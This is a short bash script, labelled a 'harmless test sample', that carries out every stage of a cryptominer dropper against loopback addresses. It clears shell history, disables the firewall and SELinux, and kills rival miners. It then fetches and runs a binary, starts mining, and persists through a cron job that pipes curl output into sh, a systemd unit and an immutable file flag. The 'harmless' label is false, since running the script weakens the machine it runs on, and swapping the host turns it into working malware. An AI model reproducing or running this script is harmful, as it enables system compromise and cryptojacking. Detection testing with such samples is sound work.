#!/bin/bash
# harmless test sample: a miner dropper with every behaviour (loopback only)
unset HISTFILE
ufw disable
iptables -F
setenforce 0
chattr -i /etc/crontab
pkill -f xmrig
pkill -f kdevtmpfsi
ps aux | grep -v grep | grep kinsing | awk '{print $2}' | xargs -r kill -9
wget -q -O /tmp/.x http://127.0.0.1/x
chmod +x /tmp/.x
nohup /tmp/.x -o stratum+tcp://127.0.0.1:3333 --donate-level 1 >/dev/null 2>&1 &
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://127.0.0.1/x | sh") | crontab -
cat > /etc/systemd/system/x.service <<UNIT
[Service]
ExecStart=/tmp/.x
UNIT
chattr +i /tmp/.x
